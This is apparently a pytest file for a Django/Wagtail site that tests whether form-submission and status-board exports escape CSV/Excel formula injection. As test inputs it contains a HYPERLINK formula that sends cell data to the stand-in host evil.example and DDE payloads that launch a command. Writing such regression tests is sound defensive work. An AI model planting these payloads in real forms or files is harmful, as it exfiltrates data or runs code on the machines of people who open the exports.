"""No CSV the site writes carries a live spreadsheet formula.

A visitor's ``=HYPERLINK("http://evil.example/?"&A1,"Klick")`` in a public
form, or an editor's title that starts like a formula, reached the form
submissions' export and the translation status board's export as it was, and
Excel or LibreOffice ran it when an editor opened the file. Every cell that
starts with "=", "+", "-", "@", a tab or a carriage return now gets a leading
apostrophe (OWASP's advice), so spreadsheets show it as text. Plain numbers
such as "-12" are left alone: they can run nothing and stay numbers.
"""

import csv
import io
import re
import time

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from wagtail.contrib.forms.models import FormSubmission

from demo.sections import demo_key
from home.models import FormField, FormPage
from partnership.models import DelegationReportPage, FundingProgramme

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
CONTACT = {"de": "/de/kontakt/", "fr": "/fr/nous-ecrire/"}
EDITORS = {"de": "naumburg", "fr": "lesulis"}
BOARD = "/admin/translation-status/"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d+)?|[.,]\d+)\Z")


def editor(language):
    client = Client()
    client.force_login(get_user_model().objects.get(username=EDITORS[language]))
    return client


def contact_page(language):
    return FormPage.objects.get(url_path__endswith=CONTACT[language].split("/")[2] + "/")


def send_contact_form(language, name, message):
    response = Client().post(
        CONTACT[language],
        {
            "ihr_name": name,
            "ihre_e_mail_adresse": "marie@example.org",
            "ihre_nachricht": message,
            "consent": "on",
            "whf_name": "",
            "whf_time": str(int(time.time()) - 60),
        },
    )
    assert response.status_code == 200
    assert FormSubmission.objects.filter(page=contact_page(language)).exists()


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


def xlsx_cells(response):
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [cell for row in workbook.active.iter_rows() for cell in row]


def assert_no_live_formula(rows):
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                assert PLAIN_NUMBER.match(cell), f"a spreadsheet would run {cell!r}"


def submissions_url(language, export):
    url = reverse("wagtailforms:list_submissions", args=[contact_page(language).pk])
    return f"{url}?export={export}"


@pytest.mark.parametrize("language", ["de", "fr"])
@pytest.mark.parametrize(
    ("name", "message", "exported_name", "exported_message"),
    [
        (HYPERLINK, "Bonjour", f"'{HYPERLINK}", "Bonjour"),
        ("Marie", "-2+3+cmd|' /C calc'!A0", "Marie", "'-2+3+cmd|' /C calc'!A0"),
        (
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+49 3445 7030",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'+49 3445 7030",
        ),
        ("Marie", "-12", "Marie", "-12"),
        ("Marie", "-1,5", "Marie", "-1,5"),
    ],
    ids=["hyperlink", "minus-formula", "at-and-phone", "negative-number", "decimal-comma"],
)
def test_form_answers_are_text_in_the_submissions_csv(
    demo, language, name, message, exported_name, exported_message
):
    send_contact_form(language, name, message)

    rows = csv_rows(editor(language).get(submissions_url(language, "csv")))

    heading, *answers = rows
    assert len(answers) == 1
    (answer,) = answers
    label = FormField.objects.get(page=contact_page(language), clean_name="ihr_name").label
    assert answer[heading.index(label)] == exported_name
    assert exported_message in answer
    assert_no_live_formula(rows)


@pytest.mark.parametrize("language", ["de", "fr"])
def test_form_answers_stay_text_in_the_submissions_xlsx(demo, language):
    send_contact_form(language, HYPERLINK, "Bonjour")

    cells = xlsx_cells(editor(language).get(submissions_url(language, "xlsx")))

    (cell,) = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
    assert cell.data_type == "s"
    assert cell.value == HYPERLINK


@pytest.mark.parametrize("language", ["de", "fr"])
def test_a_field_label_that_starts_like_a_formula_is_a_text_heading(demo, language):
    """Editors write the labels; one team's label must not run in another's export."""
    FormField.objects.filter(page=contact_page(language), clean_name="ihr_name").update(
        label=HYPERLINK
    )
    send_contact_form(language, "Marie", "Bonjour")
    client = editor(language)

    heading = csv_rows(client.get(submissions_url(language, "csv")))[0]
    assert f"'{HYPERLINK}" in heading
    assert_no_live_formula([heading])

    cells = xlsx_cells(client.get(submissions_url(language, "xlsx")))
    assert all(cell.data_type != "f" for cell in cells)


@pytest.mark.parametrize("language", ["de", "fr"])
def test_titles_are_text_in_the_status_board_csv(demo, language):
    page = DelegationReportPage.objects.get(
        translation_key=demo_key("page:german-only"), locale__language_code="de"
    )
    DelegationReportPage.objects.filter(pk=page.pk).update(title=HYPERLINK, draft_title=HYPERLINK)
    programme = FundingProgramme.objects.filter(locale__language_code="de").first()
    # Every version of it: the board titles a row in the editor's language where it can.
    FundingProgramme.objects.filter(translation_key=programme.translation_key).update(
        name=f"+{HYPERLINK}"
    )

    rows = csv_rows(editor(language).get(BOARD, {"export": "csv"}))

    titles = [row[0] for row in rows[1:]]
    assert f"'{HYPERLINK}" in titles
    assert f"'+{HYPERLINK}" in titles
    assert_no_live_formula(rows)
    # Shares stay numbers.
    assert "100" in {cell for row in rows[1:] for cell in row}


def test_titles_stay_text_in_the_status_board_xlsx(demo):
    page = DelegationReportPage.objects.get(
        translation_key=demo_key("page:german-only"), locale__language_code="de"
    )
    DelegationReportPage.objects.filter(pk=page.pk).update(title=HYPERLINK, draft_title=HYPERLINK)

    cells = xlsx_cells(editor("de").get(BOARD, {"export": "xlsx"}))

    assert all(cell.data_type != "f" for cell in cells)
    assert HYPERLINK in {cell.value for cell in cells}
